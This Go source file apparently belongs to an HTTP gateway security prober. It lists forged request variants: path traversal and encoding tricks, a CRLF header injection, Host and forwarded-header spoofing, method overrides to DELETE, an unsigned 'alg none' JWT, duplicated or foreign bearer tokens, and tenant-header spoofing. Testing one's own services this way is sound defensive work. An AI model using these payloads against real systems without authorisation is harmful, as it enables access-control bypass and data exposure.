package probe

import "strings"

// target sends another request target than the clean one.
func target(name string, change func(path string) string) attack {
	return attack{
		name: name, carries: true,
		h1: func(m *message, f forgery) { m.target = change(f.path) },
		h2: func(m *message2, f forgery) { m.set(":path", change(f.path)) },
	}
}

// paths are ways to write a path that two readers may understand differently.
func paths() []attack {
	before := func(prefix string) func(string) string { return func(p string) string { return prefix + p } }
	after := func(suffix string) func(string) string {
		return func(p string) string { p, q, found := strings.Cut(p, "?"); return p + suffix + query(q, found) }
	}
	lastSlash := func(by string) func(string) string {
		return func(p string) string {
			p, q, found := strings.Cut(p, "?")
			if i := strings.LastIndexByte(p, '/'); i > 0 {
				return p[:i] + by + p[i+1:] + query(q, found)
			}
			return p + by + query(q, found)
		}
	}
	list := []attack{
		target("path/two slashes in front", before("/")),
		target("path/two slashes within", lastSlash("//")),
		target("path/slash behind", after("/")),
		target("path/..", before("/probe/..")),
		target("path/.. behind", after("/probe/..")),
		target("path/.. above the root", before("/..")),
		target("path/.", before("/.")),
		target("path/%2e%2e", before("/probe/%2e%2e")),
		target("path/%2E", before("/%2E")),
		target("path/.%2e", before("/probe/.%2e")),
		target("path/%252e%252e", before("/probe/%252e%252e")),
		target("path/..%2f", before("/probe/..%2f.")),
		target("path/%2f", lastSlash("%2f")),
		target("path/%252f", lastSlash("%252f")),
		target("path/%5c", lastSlash("%5c")),
		target("path/backslash", lastSlash(`\`)),
		target("path/..;", before("/probe/..;")),
		target("path/;", after(";a=b")),
		target("path/%3b", after("%3ba=b")),
		target("path/%00", after("%00")),
		target("path/NUL", after("\x00")),
		target("path/#", after("#probe")),
		target("path/# and ..", after("#/../../probe")),
		target("path/%23", after("%23probe")),
		target("path/%3f", after("%3fprobe")),
		target("path/%0d%0a", after("%0d%0aX-Probe-A:%20a")),
		target("path/%20", after("%20")),
		target("path/overlong UTF-8", before("/probe/%c0%ae%c0%ae")),
		target("path/not UTF-8", after("%ff")),
		target("path/bad escape", after("%zz")),
		target("path/encoded letter", func(p string) string {
			if len(p) < 2 || p[1] < 'a' || p[1] > 'z' {
				return p + "%61"
			}
			return "/%" + hexByte(p[1]) + p[2:]
		}),
		target("path/question mark", after("?/../..//probe")),
	}
	list = append(list,
		attack{name: "path/without a slash", carries: true, h1: func(m *message, f forgery) { m.target = strings.TrimPrefix(f.path, "/") + "x" }},
		attack{name: "path/space", carries: true, h1: func(m *message, f forgery) { m.target = f.path + " /probe" }},
		attack{name: "path/absolute form", carries: true, h1: func(m *message, f forgery) { m.target = "http://" + f.host + f.path }},
		attack{name: "path/absolute form, another host", carries: true, otherHost: true, h1: func(m *message, f forgery) { m.target = "http://probe.invalid" + f.path }},
		attack{name: "path/absolute form, another scheme", carries: true, otherHost: true, h1: func(m *message, f forgery) { m.target = "ftp://" + f.host + f.path }},
		attack{name: "path/absolute form, user", carries: true, otherHost: true, h1: func(m *message, f forgery) { m.target = "http://probe@" + f.host + f.path }},
		attack{name: "path/fragment in HTTP 1.0", carries: true, h1: func(m *message, f forgery) { m.target, m.version = f.path+"#probe", "HTTP/1.0" }},
		attack{name: "path/HTTP 0.9", carries: true, h1: func(m *message, _ forgery) { m.version = "HTTP/0.9" }},
		attack{name: "path/two paths", carries: true, denied: Path, h2: func(m *message2, _ forgery) {
			m.fields = append([]field{{":path", "/probe"}}, m.fields...)
		}},
	)
	return list
}

func query(q string, found bool) string {
	if !found {
		return ""
	}
	return "?" + q
}

func hexByte(b byte) string {
	const digits = "0123456789abcdef"
	return string([]byte{digits[b>>4], digits[b&15]})
}

// hosts are ways to name another host, or two.
func hosts() []attack {
	host := func(name string, lines ...string) attack {
		return attack{name: "host/" + name, carries: true, otherHost: true, h1: func(m *message, f forgery) {
			m.drop("Host")
			for i := len(lines) - 1; i >= 0; i-- {
				m.first(strings.ReplaceAll(lines[i], "{}", f.host))
			}
		}}
	}
	return []attack{
		host("another", "Host: probe.invalid"), host("two, own first", "Host: {}", "Host: probe.invalid"), host("two, own last", "Host: probe.invalid", "Host: {}"),
		host("none"), host("empty", "Host:"), host("user", "Host: probe@{}"), host("space before the colon", "Host : {}"), host("list", "Host: {}, probe.invalid"),
		host("path", "Host: {}/probe"), host("final dot", "Host: {}."), host("folded", "Host: {}", " probe.invalid"),
		{name: "host/another :authority", carries: true, otherHost: true, h2: func(m *message2, _ forgery) { m.set(":authority", "probe.invalid") }},
		{name: "host/:authority and host", carries: true, otherHost: true, h2: func(m *message2, _ forgery) { m.add("host", "probe.invalid") }},
	}
}

// forwarded are headers by which gateways report the original request. A client that sends them must change nothing.
func forwarded() []attack {
	fields := []field{
		{"X-Forwarded-Uri", "{open}"}, {"X-Forwarded-Uri", "{path}"}, {"X-Forwarded-Path", "{open}"}, {"X-Forwarded-Prefix", "/probe"}, {"X-Forwarded-Method", "OPTIONS"}, {"X-Forwarded-Method", "GET"},
		{"X-Forwarded-Host", "probe.invalid"}, {"X-Forwarded-Proto", "https"}, {"X-Forwarded-Scheme", "https"}, {"X-Forwarded-For", "127.0.0.1"}, {"X-Forwarded-For", "10.0.0.1, 127.0.0.1"},
		{"X-Forwarded-Port", "443"}, {"X-Forwarded-Server", "probe.invalid"}, {"X-Real-Ip", "127.0.0.1"}, {"X-Client-Ip", "127.0.0.1"}, {"True-Client-Ip", "127.0.0.1"},
		{"X-Original-Uri", "{open}"}, {"X-Original-Url", "{open}"}, {"X-Original-Method", "OPTIONS"}, {"X-Original-Host", "probe.invalid"},
		{"X-Rewrite-Url", "{open}"}, {"X-Envoy-Original-Path", "{open}"}, {"X-Envoy-External-Address", "127.0.0.1"}, {"X-Auth-Request-Redirect", "{open}"},
		{"Forwarded", "for=127.0.0.1;host=probe.invalid;proto=https"}, {"Via", "1.1 probe"}, {"X-Upstream-IdP-ID", "probe"},
		{"X-HTTP-Method-Override", "DELETE"}, {"X-HTTP-Method", "DELETE"}, {"X-Method-Override", "DELETE"},
		{"X_Forwarded_Uri", "{open}"}, {"X_Forwarded_Method", "OPTIONS"}, {"X_Original_Uri", "{open}"},
	}
	expand := func(v string, f forgery) string {
		return strings.NewReplacer("{open}", f.open, "{path}", f.path).Replace(v)
	}
	var list []attack
	for _, h := range fields {
		list = append(list, attack{
			name: "forwarded/" + h.name + ": " + h.value, carries: true,
			h1: func(m *message, f forgery) { m.add(h.name + ": " + expand(h.value, f)) },
			h2: func(m *message2, f forgery) { m.add(strings.ToLower(h.name), expand(h.value, f)) },
		})
	}
	return append(list,
		attack{name: "forwarded/two X-Forwarded-Uri", carries: true, h1: func(m *message, f forgery) { m.add("X-Forwarded-Uri: "+f.path, "X-Forwarded-Uri: "+f.open) }},
		attack{name: "forwarded/all of X-Forwarded", carries: true, h1: func(m *message, f forgery) {
			m.add("X-Forwarded-Uri: "+f.open, "X-Forwarded-Method: GET", "X-Forwarded-Host: "+f.host, "X-Forwarded-Proto: https", "X-Forwarded-For: 127.0.0.1",
				"X-Original-URI: "+f.open, "X-Original-URL: "+f.open, "X-Original-Method: GET")
		}},
		attack{name: "forwarded/open path in front", carries: true, needs: anOpenPath, h1: func(m *message, f forgery) {
			m.target = strings.TrimSuffix(f.open, "/") + "/.." + strings.Repeat("/..", strings.Count(f.open, "/")) + f.path
		}},
		attack{name: "forwarded/open path in front, encoded", carries: true, needs: anOpenPath, h1: func(m *message, f forgery) {
			m.target = strings.TrimSuffix(f.open, "/") + strings.Repeat("/%2e%2e", strings.Count(f.open, "/")+1) + f.path
		}},
	)
}

// methods are other methods than GET, and changes of the protocol.
func methods() []attack {
	method := func(name string) attack {
		return attack{
			name: "method/" + name, carries: true,
			h1: func(m *message, _ forgery) { m.method = name },
			h2: func(m *message2, _ forgery) { m.set(":method", name) },
		}
	}
	preflight := method("OPTIONS")
	preflight.name, preflight.preflight = "method/preflight", true
	preflight.h1 = func(m *message, _ forgery) {
		m.method = "OPTIONS"
		m.add("Origin: https://probe.invalid", "Access-Control-Request-Method: DELETE", "Access-Control-Request-Headers: authorization")
	}
	preflight.h2 = func(m *message2, _ forgery) {
		m.set(":method", "OPTIONS")
		m.add("origin", "https://probe.invalid")
		m.add("access-control-request-method", "DELETE")
	}
	options := method("OPTIONS")
	options.preflight = true
	list := []attack{
		preflight, options, method("HEAD"), method("POST"), method("PUT"), method("PATCH"), method("DELETE"), method("TRACE"), method("TRACK"), method("PROPFIND"), method("PROBE"), method("get"), method("Get"),
		{name: "method/CONNECT", carries: true, denied: Smuggled, h1: func(m *message, _ forgery) { m.method, m.target = "CONNECT", "127.0.0.1:1" }},
		{name: "method/CONNECT with a path", carries: true, h1: func(m *message, _ forgery) { m.method = "CONNECT" }},
		{name: "method/space in front", carries: true, h1: func(m *message, _ forgery) { m.method = " GET" }},
		{name: "method/tab behind", carries: true, h1: func(m *message, _ forgery) { m.method = "GET\t" }},
		{name: "method/body with GET", carries: true, h1: func(m *message, _ forgery) { m.body = "probe"; m.add(contentLength(m.body)) }},
		{name: "method/HEAD in lower case", carries: true, h1: func(m *message, _ forgery) { m.method = "head" }},
		{name: "method/websocket", carries: true, h1: func(m *message, _ forgery) {
			m.add("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: cHJvYmUtcHJvYmUtcHJvYg==")
		}},
	}
	return append(list, attack{name: "method/websocket over HTTP/2", carries: true, h2: func(m *message2, _ forgery) { // RFC 8441
		m.set(":method", "CONNECT")
		m.fields = append([]field{{":protocol", "websocket"}}, m.fields...)
		m.add("sec-websocket-version", "13")
	}})
}

// credentials are ways to send two tokens, or none that should count.
func credentials() []attack {
	auth := func(name string, who needs, lines func(f forgery) []string) attack {
		return attack{
			name: "credentials/" + name, needs: who,
			h1: func(m *message, f forgery) { m.drop("Authorization"); m.add(lines(f)...) },
			h2: func(m *message2, f forgery) {
				m.drop("authorization")
				for _, l := range lines(f) {
					n, v, _ := strings.Cut(l, ":")
					m.add(strings.ToLower(n), strings.TrimSpace(v))
				}
			},
		}
	}
	own := func(f forgery) string { return "Authorization: Bearer " + f.token }
	list := []attack{
		auth("garbage", noToken, func(forgery) []string { return []string{"Authorization: Bearer probe"} }),
		auth("Basic", noToken, func(forgery) []string { return []string{"Authorization: Basic cHJvYmU6cHJvYmU="} }),
		auth("empty", noToken, func(forgery) []string { return []string{"Authorization:"} }),
		auth("underscore", noToken, func(forgery) []string { return []string{"Authorization_: Bearer probe"} }),
		auth("unsigned", noToken, func(forgery) []string {
			return []string{"Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJwcm9iZSJ9."}
		}),
		auth("9,000 characters", noToken, func(forgery) []string { return []string{"Authorization: Bearer " + strings.Repeat("probe", 1800)} }),
		auth("not ASCII", noToken, func(forgery) []string { return []string{"Authorization: Bearer probe\xff"} }),
		auth("own, then garbage", aToken, func(f forgery) []string { return []string{own(f), "Authorization: Bearer probe"} }),
		auth("garbage, then own", aToken, func(f forgery) []string { return []string{"Authorization: Bearer probe", own(f)} }),
		auth("own twice", aToken, func(f forgery) []string { return []string{own(f), own(f)} }),
		auth("own, then another user's", twoTokens, func(f forgery) []string { return []string{own(f), "Authorization: Bearer " + f.other} }),
		auth("another user's, then own", twoTokens, func(f forgery) []string { return []string{"Authorization: Bearer " + f.other, own(f)} }),
		auth("list", aToken, func(f forgery) []string { return []string{own(f) + ", Bearer probe"} }),
		auth("own, and Proxy-Authorization", aToken, func(f forgery) []string { return []string{own(f), "Proxy-Authorization: Bearer probe"} }),
	}
	return list
}

// hints are ways to name a tenant.
func hints() []attack {
	const unknown = "00000000-0000-4000-8000-0000000000ff"
	return []attack{
		{name: "hint/another tenant", needs: aTenant, denied: Hint, h1: func(m *message, _ forgery) { m.set(hintHeader, unknown) }, h2: func(m *message2, _ forgery) { m.set(hintHeader2, unknown) }},
		{name: "hint/two, own first", needs: aTenant, h1: func(m *message, f forgery) {
			m.set(hintHeader, f.tenant)
			m.add(hintHeader + ": " + unknown)
		}, h2: func(m *message2, f forgery) { m.set(hintHeader2, f.tenant); m.add(hintHeader2, unknown) }},
		{name: "hint/two, own last", needs: aTenant, h1: func(m *message, f forgery) { m.set(hintHeader, unknown); m.add(hintHeader + ": " + f.tenant) }},
	}
}

// hintHeader is where a client names the tenant that it wants.
const (
	hintHeader  = "X-Active-Tenant-ID"
	hintHeader2 = "x-active-tenant-id"
)
